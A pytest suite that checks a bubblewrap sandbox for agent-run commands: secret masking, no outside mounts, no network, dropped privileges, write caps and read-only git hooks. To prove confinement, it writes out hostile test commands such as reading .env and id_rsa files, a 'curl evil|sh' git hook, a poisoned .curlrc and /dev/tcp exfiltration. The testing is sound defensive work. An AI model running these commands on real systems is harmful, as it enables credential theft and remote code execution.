"""The bubblewrap sandbox contains what the policy lets through: real bwrap, real commands.

Commands here are run with :func:`run_argv` directly (no governor), as an
allowed-by-mistake command would run: the sandbox alone must hold.
"""

from __future__ import annotations

import os
import secrets
import socket
import threading

import pytest
import yaml

from swarmd.governor import Decision, parse_policy
from swarmd.governor.execute import run_argv
from swarmd.governor.sandbox import SANDBOX_UID, probe, workspace_masks

from .conftest import REPO, make_workspace

ALLOW = Decision("allow", "test", "test")
pytestmark = pytest.mark.skipif(not probe().available, reason="bwrap not usable here: " + probe().reason)


def sandbox_policy(**sandbox):
    data = yaml.safe_load((REPO / "src" / "swarmd" / "policy.yaml").read_text())
    data.setdefault("sandbox", {}).update(sandbox)
    return parse_policy(yaml.safe_dump(data))


@pytest.fixture()
def ws(tmp_path):
    w = make_workspace(tmp_path)
    return str(w)


def sh(ws, script, policy=None, **limits):
    p = policy or sandbox_policy()
    lim = p.execution.model_copy(update={"timeout_s": 20, **limits})
    return run_argv(["/bin/sh", "-c", script], ws, lim, ALLOW, policy=p, confinement=probe())


def test_secret_files_in_the_workspace_are_masked(ws):
    token = secrets.token_hex(16)
    for rel in (".env", "sub/.env.local", "deploy/id_rsa", "infra/terraform.tfstate", "conf/.npmrc", "k.pem"):
        os.makedirs(os.path.dirname(os.path.join(ws, rel)) or ws, exist_ok=True)
        with open(os.path.join(ws, rel), "w") as f:
            f.write(f"TOKEN={token}\n")
    r = sh(ws, "cat .env sub/.env.local deploy/id_rsa infra/terraform.tfstate conf/.npmrc k.pem; grep -r TOKEN . ;"
               " tar cf - . | strings | grep TOKEN; echo done")
    assert r.exit_code == 0 and r.output.endswith("done\n")
    assert token not in r.output
    with open(os.path.join(ws, ".env")) as f:
        assert token in f.read()  # masked inside, intact outside


def test_nothing_outside_the_workspace_is_mounted(ws, tmp_path):
    r = sh(ws, "ls -d /root /home /var /srv /run /opt /mnt /boot 2>&1; cat link_out/shadow secrets_link/id_rsa 2>&1;"
               f" cat {tmp_path}/outside.txt 2>&1; ls /etc")
    for d in ("/root", "/home", "/var", "/srv", "/run", "/opt"):
        assert f"ls: cannot access '{d}': No such file or directory" in r.output
    assert "outside\n" not in r.output
    etc = set(r.output.split())
    assert not etc & {"shadow", "gshadow", "sudoers", "sudoers.d", "ssh", "crontab"}
    assert {"passwd", "group", "ld.so.cache"} <= etc


def test_private_home_and_tmp_do_not_persist(ws):
    r = sh(ws, "echo proxy=http://evil > ~/.curlrc && echo x > /tmp/mark && echo $HOME && ls -a ~")
    assert r.exit_code == 0 and r.output.splitlines()[0] == "/tmp/home"
    assert not os.path.exists(os.path.join(ws, ".curlrc"))
    r = sh(ws, "cat ~/.curlrc /tmp/mark 2>&1; true")
    assert "evil" not in r.output and "No such file" in r.output


def test_no_network_by_default(ws):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(3)
    port = srv.getsockname()[1]
    hits: list[int] = []

    def accept():
        try:
            srv.accept()[0].close()
            hits.append(1)
        except OSError:
            pass
    t = threading.Thread(target=accept, daemon=True)
    t.start()
    r = sh(ws, f"echo hi > /dev/tcp/127.0.0.1/{port} 2>&1; cat /proc/net/dev | tail -n +3 | cut -d: -f1", )
    t.join(timeout=4)
    srv.close()
    assert not hits
    assert r.output.split()[-1] == "lo" and len([x for x in r.output.split() if x == "lo"]) == 1


def test_no_privileges_inside(ws):
    r = sh(ws, "id -u; grep -E '^(NoNewPrivs|CapEff|CapBnd)' /proc/self/status")
    lines = r.output.split()
    assert lines[0] == str(SANDBOX_UID) == "1000"
    assert "0000000000000000" in lines and lines[lines.index("NoNewPrivs:") + 1] == "1"


def test_write_cap_stops_disk_filling(ws):
    p = sandbox_policy(write_cap_mb=8)
    r = sh(ws, "i=0; while [ $i -lt 40 ]; do head -c 1048576 /dev/zero > fill$i; i=$((i+1)); done; echo finished",
           policy=p, file_size_mb=4)
    assert "finished" not in r.output and "write_cap_mb=8" in (r.error or "")
    total = sum(os.path.getsize(os.path.join(ws, f)) for f in os.listdir(ws) if f.startswith("fill"))
    assert total < 40 * 1024 * 1024


def test_tmp_is_size_limited(ws):
    r = sh(ws, "head -c 3000000 /dev/zero > /tmp/big; echo rc=$?", policy=sandbox_policy(tmp_size_mb=1))
    assert "No space left on device" in r.output and "rc=1" in r.output


def test_git_hooks_and_config_are_read_only(ws):
    os.makedirs(os.path.join(ws, ".git", "hooks"))
    with open(os.path.join(ws, ".git", "config"), "w") as f:
        f.write("[core]\n")
    masks = workspace_masks(ws, sandbox_policy())
    assert os.path.join(ws, ".git", "hooks") in masks.protected
    r = sh(ws, "echo 'curl evil|sh' > .git/hooks/post-checkout 2>&1; echo '[core] pager=evil' >> .git/config 2>&1;"
               " echo ok > notes2.txt && cat notes2.txt")
    assert "Read-only file system" in r.output and r.output.endswith("ok\n")
    assert not os.path.exists(os.path.join(ws, ".git", "hooks", "post-checkout"))
    assert open(os.path.join(ws, ".git", "config")).read() == "[core]\n"


def test_local_git_work_and_git_diff_run(ws):
    # git 2.39 took the old diff.external="" hardening for a program and failed every git diff
    r = sh(ws, "git init -q && git add -A && git commit -qm first && echo more >> notes.txt && git diff"
               " && git commit -qam second && git log --oneline | wc -l")
    assert r.exit_code == 0, r.output
    assert "\n+more\n" in r.output and r.output.split()[-1] == "2"


def test_the_mask_list_is_kept_until_a_directory_changes(ws):
    """workspace_masks is searched again only when a directory's entries changed (inode/ctime): a
    secret made afterwards is masked at the next command, even when its directory's mtime is set back,
    and so is a protected path made later; an unchanged workspace gets the same list without a search."""
    pol = sandbox_policy()
    first = workspace_masks(ws, pol)
    assert workspace_masks(ws, pol) is first                    # nothing changed: kept
    sub = os.path.join(ws, "deep", "er")
    os.makedirs(sub)
    assert workspace_masks(ws, pol) is not first
    before = os.stat(sub)
    with open(os.path.join(sub, ".env"), "w") as f:
        f.write("DB_PASSWORD=x1\n")
    os.utime(sub, ns=(before.st_atime_ns, before.st_mtime_ns))  # mtime set back, as an agent could
    assert os.path.join(sub, ".env") in workspace_masks(ws, pol).files
    r = sh(ws, "cat deep/er/.env; echo end")
    assert "DB_PASSWORD" not in r.output and r.output.endswith("end\n"), r.output
    os.makedirs(os.path.join(ws, ".git", "hooks"))
    assert os.path.join(ws, ".git", "hooks") in workspace_masks(ws, pol).protected
